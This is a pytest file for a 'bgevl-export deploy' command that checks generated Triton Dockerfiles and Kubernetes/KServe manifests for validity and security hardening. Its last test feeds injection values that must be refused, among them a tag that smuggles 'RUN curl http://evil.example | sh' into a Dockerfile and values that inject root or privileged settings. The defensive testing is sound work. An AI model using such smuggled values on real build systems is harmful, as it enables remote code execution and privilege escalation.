"""``bgevl-export deploy``: the serving image and the Kubernetes / KServe manifests, validated by the
tools their users run (hadolint, kubernetes-validate --strict on the oldest supported and a current
Kubernetes, KServe's own CRD schemas) and the image's dependency set resolved for its Python.

Nothing here runs a cluster, a GPU node or the NGC image (none can run on this machine).
"""

from __future__ import annotations

import copy
import gzip
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from bgevl.core.errors import BgevlError
from bgevl.export.cli import main
from bgevl.serving.deploy import DeployOptions, write_deployment

BIN = Path(sys.executable).parent
KSERVE_SCHEMAS = Path(__file__).parent / "data" / "kserve"
KUBERNETES_VERSIONS = ("1.26.0", "1.37.0")  # autoscaling/v2beta2 is gone from 1.26 on


@pytest.fixture(scope="module")
def deployed(tmp_path_factory):
    out = tmp_path_factory.mktemp("deploy") / "files"
    assert main(["deploy", "--repository-uri", "s3://models-bucket/bgevl/repo", "--output", str(out),
                 "--image", "registry.example.com/bgevl-triton:0.1.0", "--replicas", "2", "--max-replicas", "6",
                 "--gpus", "1"]) == 0
    return out


def documents(path: Path) -> list[dict]:
    return [d for d in yaml.safe_load_all(path.read_text()) if d]


def test_writes_every_file_with_the_values_given(deployed):
    names = sorted(str(p.relative_to(deployed)) for p in deployed.rglob("*") if p.is_file())
    assert names == ["Dockerfile", "bgevl_export-0.1.0-py3-none-any.whl", "deploy.json", "k8s/deployment.yaml",
                     "k8s/hpa.yaml", "k8s/networkpolicy.yaml", "k8s/poddisruptionbudget.yaml", "k8s/service.yaml",
                     "kserve/inferenceservice.yaml", "kserve/servingruntime.yaml", "prometheus-adapter/rules.yaml",
                     "requirements.txt", "serve.sh"]
    [dep] = documents(deployed / "k8s" / "deployment.yaml")
    container = dep["spec"]["template"]["spec"]["containers"][0]
    assert dep["spec"]["replicas"] == 2 and container["image"] == "registry.example.com/bgevl-triton:0.1.0"
    assert "--model-repository=s3://models-bucket/bgevl/repo" in container["args"]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == 1
    assert container["startupProbe"]["httpGet"]["path"] == "/v2/health/ready"
    # Triton's health endpoints stay 200 with a dead python-backend stub: the exec probe (tests/test_triton_server.py)
    assert container["readinessProbe"]["exec"]["command"] == ["python3", "-m", "bgevl.serving.probe", "--ready"]
    assert container["livenessProbe"]["exec"]["command"] == ["python3", "-m", "bgevl.serving.probe"]
    volumes = {v["name"]: v for v in dep["spec"]["template"]["spec"]["volumes"]}
    assert volumes["dshm"]["emptyDir"]["medium"] == "Memory"
    assert "--http-restricted-api=\"shared-memory" in (deployed / "serve.sh").read_text()  # the image's entrypoint
    [hpa] = documents(deployed / "k8s" / "hpa.yaml")
    assert hpa["apiVersion"] == "autoscaling/v2" and (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (2, 6)
    # 4 x (3 models x 2 ms batching delay): an idle pod's 6 ms of queueing must not hold the HPA at its maximum
    assert hpa["spec"]["metrics"][0]["pods"]["target"]["averageValue"] == "24000"
    [rules] = documents(deployed / "prometheus-adapter" / "rules.yaml")
    [rule] = rules["rules"]
    assert rule["name"]["as"] == hpa["spec"]["metrics"][0]["pods"]["metric"]["name"] == "bgevl_queue_us_per_request"
    assert 'model="bgevl"' in rule["metricsQuery"]
    [isvc] = documents(deployed / "kserve" / "inferenceservice.yaml")
    assert isvc["spec"]["predictor"]["model"]["storageUri"] == "s3://models-bucket/bgevl/repo"
    dockerfile = (deployed / "Dockerfile").read_text()
    assert "FROM nvcr.io/nvidia/tritonserver:25.10-py3" in dockerfile and "\nUSER 1000\n" in dockerfile


def test_cpu_pods_and_volume_repositories(deployed, tmp_path):
    wheel = next(deployed.glob("*.whl"))
    out = write_deployment(tmp_path / "cpu", DeployOptions("pvc://model-store/bgevl", gpus=0), wheel=wheel, sink=lambda m: None)
    [dep] = documents(out / "k8s" / "deployment.yaml")
    pod = dep["spec"]["template"]["spec"]
    assert "nvidia.com/gpu" not in pod["containers"][0]["resources"]["limits"] and "tolerations" not in pod
    assert "--model-repository=/models/bgevl" in pod["containers"][0]["args"]
    assert {"name": "model-repository", "persistentVolumeClaim": {"claimName": "model-store", "readOnly": True}} in pod["volumes"]


@pytest.mark.parametrize("uri", ["/local/path", "http://x/y", "s3:/missing-slash"])
def test_bad_repository_uri_is_refused(uri, tmp_path):
    with pytest.raises(BgevlError, match="use s3://BUCKET/PATH"):
        write_deployment(tmp_path / "x", DeployOptions(uri), sink=lambda m: None)
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize("name", ["my_model", "1model", "x" * 64])
def test_names_that_kubernetes_refuses_are_refused(name, tmp_path):
    with pytest.raises(BgevlError, match="DNS-1035"):
        write_deployment(tmp_path / "x", DeployOptions("s3://b/p", name=name), sink=lambda m: None)


def test_overwrite_replaces_only_earlier_deployment_files(deployed, tmp_path):
    """A service's own repository also has a Dockerfile and a k8s/ folder: --overwrite must not delete it."""
    project = tmp_path / "service"
    (project / "k8s").mkdir(parents=True)
    (project / "Dockerfile").write_text("FROM scratch\n")
    with pytest.raises(BgevlError, match="does not hold bgevl deployment files"):
        write_deployment(project, DeployOptions("s3://b/p"), wheel=next(deployed.glob("*.whl")), overwrite=True,
                         sink=lambda m: None)
    assert (project / "Dockerfile").read_text() == "FROM scratch\n"


def test_dockerfile_passes_hadolint(deployed):
    result = subprocess.run([str(BIN / "hadolint"), "--failure-threshold", "info", str(deployed / "Dockerfile")],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("version", KUBERNETES_VERSIONS)
def test_manifests_pass_kubernetes_validate_strict(deployed, version):
    files = sorted(str(p) for p in (deployed / "k8s").glob("*.yaml"))
    result = subprocess.run([str(BIN / "kubernetes-validate"), "--strict", "-k", version, *files],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count("passed") == len(files) == 5


def test_kubernetes_validate_would_catch_the_old_hpa_api(deployed, tmp_path):
    """What Triton's own chart still uses: autoscaling/v2beta2, removed in Kubernetes 1.26."""
    [hpa] = documents(deployed / "k8s" / "hpa.yaml")
    old = tmp_path / "old-hpa.yaml"
    old.write_text(yaml.safe_dump({**hpa, "apiVersion": "autoscaling/v2beta2"}))
    result = subprocess.run([str(BIN / "kubernetes-validate"), "--strict", "-k", "1.26.0", str(old)],
                            capture_output=True, text=True)
    # only a warning and exit 0 from the tool: which is why the test above counts "passed" per file
    assert "Couldn't find schema for kind HorizontalPodAutoscaler with api version autoscaling/v2beta2" in result.stdout
    assert "passed" not in result.stdout


def _strict(schema):
    """KServe's CRD schemas leave additionalProperties open; reject unknown fields as kubectl's strict
    field validation does, except where the schema keeps unknown fields on purpose."""
    if isinstance(schema, dict):
        schema = {k: _strict(v) for k, v in schema.items()}
        if "properties" in schema and "additionalProperties" not in schema \
                and not schema.get("x-kubernetes-preserve-unknown-fields"):
            schema["additionalProperties"] = False
        return schema
    if isinstance(schema, list):
        return [_strict(v) for v in schema]
    return schema


def kserve_validator(kind: str):
    import jsonschema

    [path] = KSERVE_SCHEMAS.glob(f"{kind}.*.schema.json.gz")
    with gzip.open(path, "rt") as f:
        pinned = json.load(f)
    schema = _strict(pinned["schema"])
    # apiVersion, kind and metadata are the API server's; validate what the CRD declares
    schema["properties"]["metadata"] = {"type": "object"}
    return jsonschema.Draft7Validator(schema), pinned


@pytest.mark.parametrize("kind,file", [("ServingRuntime", "servingruntime.yaml"), ("InferenceService", "inferenceservice.yaml")])
def test_kserve_resources_validate_against_the_pinned_crd_schemas(deployed, kind, file):
    validator, pinned = kserve_validator(kind)
    [resource] = documents(deployed / "kserve" / file)
    assert resource["kind"] == kind and resource["apiVersion"] == f"{pinned['group']}/{pinned['version']}"
    errors = sorted(validator.iter_errors(resource), key=str)
    assert not errors, [f"{list(e.absolute_path)}: {e.message}" for e in errors[:5]]
    broken = copy.deepcopy(resource)
    broken["spec"]["notAField"] = 1
    assert list(validator.iter_errors(broken)), "the strict schema accepts an unknown field"


def _platforms() -> list[str]:
    tags = [f"manylinux_2_{minor}_x86_64" for minor in range(5, 40)]  # Ubuntu 24.04: glibc 2.39
    return [arg for tag in [*tags, "manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64", "linux_x86_64"]
            for arg in ("--platform", tag)]


def _resolve(deployed: Path, python: str, tmp_path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pip", "install", "--dry-run", "--quiet", "--target", str(tmp_path / "t"),
                           "--report", str(tmp_path / "report.json"), "--python-version", python, *_platforms(),
                           "--only-binary=:all:", "-r", str(deployed / "requirements.txt"),
                           str(next(deployed.glob("*.whl")))], capture_output=True, text=True, timeout=600)


def test_image_dependencies_resolve_for_the_base_images_python_and_not_for_24_10s(deployed, tmp_path):
    """The pinned set installs on Python 3.12 (NGC 25.01 and later); on 3.10 (NGC 24.10, the Triton of
    the bundled server) it does not, which is why the Dockerfile's base is not 24.10."""
    result = _resolve(deployed, "3.12", tmp_path)
    assert result.returncode == 0, result.stderr[-2000:]
    report = json.loads((tmp_path / "report.json").read_text())
    installed = {i["metadata"]["name"].lower() for i in report["install"]}
    assert {"bgevl-export", "onnxruntime", "transformers", "pillow", "numpy"} <= installed
    old = _resolve(deployed, "3.10", tmp_path / "old")
    assert old.returncode != 0 and "No matching distribution" in old.stderr


def test_the_pod_runs_the_embeddings_api_beside_triton_and_the_service_exposes_it(deployed, tmp_path, capsys):
    [dep] = documents(deployed / "k8s" / "deployment.yaml")
    triton, api = dep["spec"]["template"]["spec"]["containers"]
    assert api["name"] == "embeddings-api" and api["image"] == triton["image"] and api["command"] == ["bgevl-api"]
    assert "--triton-url=localhost:8001" in api["args"] and "--triton-model=bgevl" in api["args"]
    assert "--host=0.0.0.0" in api["args"] and "--port=8080" in api["args"]
    assert api["ports"] == [{"name": "api", "containerPort": 8080}]
    assert api["readinessProbe"]["httpGet"] == {"path": "/health/ready", "port": "api"}
    assert api["livenessProbe"]["httpGet"] == {"path": "/health/live", "port": "api"}
    key = api["env"][0]
    assert key["name"] == "BGEVL_API_KEY" and key["valueFrom"]["secretKeyRef"]["optional"] is True
    [svc] = documents(deployed / "k8s" / "service.yaml")
    assert {"name": "api", "port": 8080, "targetPort": "api"} in svc["spec"]["ports"]
    assert "EXPOSE 8000 8001 8002 8080" in (deployed / "Dockerfile").read_text()
    requirements = (deployed / "requirements.txt").read_text()
    assert all(f"\n{name}==" in requirements for name in ("fastapi", "uvicorn", "prometheus-client"))

    out = tmp_path / "no-api"
    assert main(["deploy", "--repository-uri", "s3://b/repo", "--output", str(out), "--no-api",
                 "--wheel", str(next(deployed.glob("*.whl")))]) == 0
    assert "no embeddings API" in capsys.readouterr().out
    [dep] = documents(out / "k8s" / "deployment.yaml")
    assert [c["name"] for c in dep["spec"]["template"]["spec"]["containers"]] == ["tritonserver"]
    [svc] = documents(out / "k8s" / "service.yaml")
    assert "api" not in {p["name"] for p in svc["spec"]["ports"]}
    assert "fastapi" not in (out / "requirements.txt").read_text()
    assert main(["deploy", "--repository-uri", "s3://b/repo", "--output", str(tmp_path / "x"), "--api-port", "8001"]) == 2
    assert "--api-port 8001" in capsys.readouterr().err and not (tmp_path / "x").exists()


def test_deploy_says_which_port_clients_use(tmp_path, capsys, deployed):
    assert main(["deploy", "--repository-uri", "s3://b/repo", "--output", str(tmp_path / "d"), "--name", "emb",
                 "--namespace", "search", "--api-port", "9090", "--wheel", str(next(deployed.glob("*.whl")))]) == 0
    assert "http://emb.search.svc:9090/v1/embeddings" in capsys.readouterr().out


# --- Pod Security Standards "restricted" and the rest of the hardening ------------------------------

#: The volume types "restricted" allows (pod-security-admission, check restrictedVolumes).
RESTRICTED_VOLUMES = {"configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "image", "persistentVolumeClaim",
                      "projected", "secret"}


def restricted_violations(pod: dict) -> list[str]:
    """The checks of pod-security-admission's "restricted" level (policy/check_*.go, as of 2026) that a pod
    spec fails, written from the checks' text (kubernetes/pod-security-admission, ``policy/check_*.go``; the Pod Security
    Standards page on kubernetes.io)."""
    out = []
    pod_ctx = pod.get("securityContext", {})
    for key in ("hostNetwork", "hostPID", "hostIPC"):
        if pod.get(key):
            out.append(key)
    for volume in pod.get("volumes", []):
        kinds = set(volume) - {"name"}
        if not kinds <= RESTRICTED_VOLUMES:
            out.append(f"volume {volume['name']}: {kinds}")
    for c in pod.get("initContainers", []) + pod["containers"]:
        ctx = c.get("securityContext", {})
        name = c["name"]
        if ctx.get("privileged"):
            out.append(f"{name}: privileged")
        if ctx.get("allowPrivilegeEscalation") is not False:
            out.append(f"{name}: allowPrivilegeEscalation must be false")
        if not (ctx.get("runAsNonRoot") is True or (pod_ctx.get("runAsNonRoot") is True and "runAsNonRoot" not in ctx)):
            out.append(f"{name}: runAsNonRoot")
        if ctx.get("runAsUser", pod_ctx.get("runAsUser")) == 0:
            out.append(f"{name}: runAsUser 0")
        seccomp = ctx.get("seccompProfile", pod_ctx.get("seccompProfile", {})).get("type")
        if seccomp not in ("RuntimeDefault", "Localhost"):
            out.append(f"{name}: seccompProfile {seccomp}")
        caps = ctx.get("capabilities", {})
        if "ALL" not in caps.get("drop", []) or set(caps.get("add", [])) - {"NET_BIND_SERVICE"}:
            out.append(f"{name}: capabilities {caps}")
        if any(p.get("hostPort") for p in c.get("ports", [])):
            out.append(f"{name}: hostPort")
        if ctx.get("procMount", "Default") != "Default":
            out.append(f"{name}: procMount")
    return out


def test_every_pod_passes_the_restricted_pod_security_standard(deployed):
    [dep] = documents(deployed / "k8s" / "deployment.yaml")
    pod = dep["spec"]["template"]["spec"]
    assert restricted_violations(pod) == []
    [runtime] = documents(deployed / "kserve" / "servingruntime.yaml")
    assert restricted_violations({"containers": runtime["spec"]["containers"], "volumes": runtime["spec"]["volumes"],
                                  "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}}}) == []
    assert all(c["securityContext"]["capabilities"] == {"drop": ["ALL"]} for c in runtime["spec"]["containers"])
    # the checker is not vacuous: what the manifests had before fails it
    old = copy.deepcopy(pod)
    for c in old["containers"]:
        c["securityContext"] = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "runAsUser": 1000}
    del old["securityContext"]["seccompProfile"]
    assert len(restricted_violations(old)) == 2 * len(old["containers"])
    # read-only root filesystems with a writable /tmp; no service-account token; no Kubernetes API links
    for c in pod["containers"]:
        assert c["securityContext"]["readOnlyRootFilesystem"] is True
        assert {"name": "tmp", "mountPath": "/tmp"} in c["volumeMounts"]
        assert {"name": "HOME", "value": "/tmp"} in c["env"]
    assert {"name": "tmp", "emptyDir": {}} in pod["volumes"]
    assert pod["automountServiceAccountToken"] is False


def test_no_admin_key_in_any_command_line_and_the_image_serves_with_the_admin_apis_off(deployed, tmp_path):
    """Triton takes the admin key only in argv, which `ps` shows: the manifests carry none (no Secret is read
    into an argument), and the image's entrypoint restricts the admin APIs behind a random key made at each
    start and kept nowhere. Run here with a stand-in tritonserver that prints what it was given."""
    for path in list((deployed / "k8s").glob("*.yaml")) + list((deployed / "kserve").glob("*.yaml")):
        text = path.read_text()
        assert "ADMIN_KEY" not in text and "-admin" not in text and "restricted-api" not in text, path
    dockerfile = (deployed / "Dockerfile").read_text()
    assert 'ENTRYPOINT ["/opt/bgevl/serve.sh"]' in dockerfile and "COPY requirements.txt" in dockerfile
    assert "serve.sh /opt/bgevl/" in dockerfile
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "tritonserver").write_text("#!/bin/sh\nfor a in \"$@\"; do echo \"$a\"; done\n")
    (fake / "tritonserver").chmod(0o755)
    import os

    runs = [subprocess.run(["sh", str(deployed / "serve.sh"), "--model-repository=/models"], capture_output=True,
                           text=True, env={**os.environ, "PATH": f"{fake}:{os.environ['PATH']}"}) for _ in range(2)]
    keys = []
    for run in runs:
        assert run.returncode == 0, run.stderr
        args = run.stdout.splitlines()
        assert args[0] == "--model-repository=/models"
        http = next(a for a in args if a.startswith("--http-restricted-api="))
        grpc = next(a for a in args if a.startswith("--grpc-restricted-protocol="))
        apis, _, key = http.split("=", 1)[1].partition(":bgevl-admin=")
        assert apis == "shared-memory,model-repository,logging,trace" and grpc.endswith(f":bgevl-admin={key}")
        assert len(key) == 48 and int(key, 16) >= 0
        keys.append(key)
    assert keys[0] != keys[1]  # made at each start


def test_termination_grace_secret_policy_budget_and_digests(tmp_path, deployed, capsys):
    [dep] = documents(deployed / "k8s" / "deployment.yaml")
    pod = dep["spec"]["template"]["spec"]
    triton = pod["containers"][0]
    timeout = int(next(a for a in triton["args"] if a.startswith("--exit-timeout-secs=")).split("=")[1])
    assert pod["terminationGracePeriodSeconds"] > timeout  # the kubelet must not kill Triton while it drains
    assert triton["envFrom"] == [{"secretRef": {"name": "bgevl-storage", "optional": False}}]
    [policy] = documents(deployed / "k8s" / "networkpolicy.yaml")
    assert policy["spec"]["podSelector"]["matchLabels"] == dep["spec"]["selector"]["matchLabels"]
    assert {p["port"] for rule in policy["spec"]["ingress"] for p in rule["ports"]} == {"api", "http", "grpc", "metrics"}
    [budget] = documents(deployed / "k8s" / "poddisruptionbudget.yaml")
    assert budget["spec"] == {"maxUnavailable": 1, "selector": dep["spec"]["selector"]}
    [runtime] = documents(deployed / "kserve" / "servingruntime.yaml")
    assert {"name": "h2c", "containerPort": 9000, "protocol": "TCP"} in runtime["spec"]["containers"][0]["ports"]

    digest = "sha256:" + "ab" * 32
    out = tmp_path / "pinned"
    assert main(["deploy", "--repository-uri", "pvc://claim/repo", "--output", str(out), "--image", "reg/bgevl:1",
                 "--image-digest", digest, "--triton-digest", digest, "--wheel", str(next(deployed.glob("*.whl")))]) == 0
    [dep] = documents(out / "k8s" / "deployment.yaml")
    assert {c["image"] for c in dep["spec"]["template"]["spec"]["containers"]} == {f"reg/bgevl:1@{digest}"}
    assert "envFrom" not in dep["spec"]["template"]["spec"]["containers"][0]  # a volume needs no storage Secret
    assert f"FROM nvcr.io/nvidia/tritonserver:25.10-py3@{digest}\n" in (out / "Dockerfile").read_text()
    capsys.readouterr()
    assert main(["deploy", "--repository-uri", "s3://b/r", "--output", str(tmp_path / "bad"), "--image-digest", "latest"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--image-digest 'latest': give the content digest as sha256:" in err
    assert not (tmp_path / "bad").exists()


#: checkov's Kubernetes checks the generated manifests still fail, each for a stated reason (docs/deploy.md)
CHECKOV_ACCEPTED = {
    "CKV_K8S_21": "the default namespace: the namespace is the user's choice (--namespace)",
    "CKV_K8S_35": "secrets as environment variables: Triton reads object-storage credentials (AWS_*, "
                  "GOOGLE_APPLICATION_CREDENTIALS...) and bgevl-api its key from the environment",
    "CKV_K8S_40": "a UID of 10000 or more: the NGC image's own non-root user is 1000 (triton-server)",
    "CKV_K8S_43": "images by digest: the serving image is built by the user; --image-digest pins it",
}
CHECKOV = BIN.parent / "tools" / "checkov" / "bin" / "checkov"


def checkov_failures(directory: Path) -> dict[str, set[str]]:
    result = subprocess.run([str(CHECKOV), "-d", str(directory), "--framework", "kubernetes", "--quiet", "--compact",
                             "-o", "json"], capture_output=True, text=True, timeout=600)
    reports = json.loads(result.stdout)
    failed: dict[str, set[str]] = {}
    for report in reports if isinstance(reports, list) else [reports]:
        assert report["summary"]["parsing_errors"] == 0 and report["summary"]["passed"] > 50
        for check in report["results"]["failed_checks"]:
            failed.setdefault(check["check_id"], set()).add(check["resource"])
    return failed


@pytest.mark.skipif(not CHECKOV.is_file(), reason="checkov is not installed in .venv/tools/checkov (scripts/setup-env.sh)")
def test_checkov_finds_only_the_accepted_findings(deployed, tmp_path):
    """checkov 3.3 (Bridgecrew/Prisma's IaC scanner; its ~90 Kubernetes checks) on the manifests: every
    failed check is one of the accepted ones, and pinning by digest removes CKV_K8S_43."""
    failed = checkov_failures(deployed / "k8s")
    assert set(failed) == set(CHECKOV_ACCEPTED), failed
    pinned = tmp_path / "pinned"
    write_deployment(pinned, DeployOptions("s3://b/r", namespace="search", image_digest="sha256:" + "0" * 64),
                     wheel=next(deployed.glob("*.whl")), sink=lambda m: None)
    assert set(checkov_failures(pinned / "k8s")) == {"CKV_K8S_35", "CKV_K8S_40"}


@pytest.mark.parametrize("field, value", [
    ("triton_tag", "24.10-py3\nRUN curl http://evil.example | sh"), ("image", "bgevl:1\nUSER root"),
    ("namespace", "default\n  hostNetwork: true"), ("model_name", "bgevl\nx"), ("cpu", "4\nx"),
    ("memory", "16Gi\n    privileged: true"), ("shm_size", "2Gi x")])
def test_a_value_with_a_newline_or_outside_its_grammar_is_refused(field, value, tmp_path):
    """`--triton-tag` with a newline injected a RUN line into the Dockerfile."""
    import dataclasses

    with pytest.raises(BgevlError, match=r"^--[a-z-]+ .*: not (a|an) "):
        write_deployment(tmp_path / "x", dataclasses.replace(DeployOptions("s3://b/p"), **{field: value}),
                         sink=lambda m: None)
    assert not (tmp_path / "x").exists()
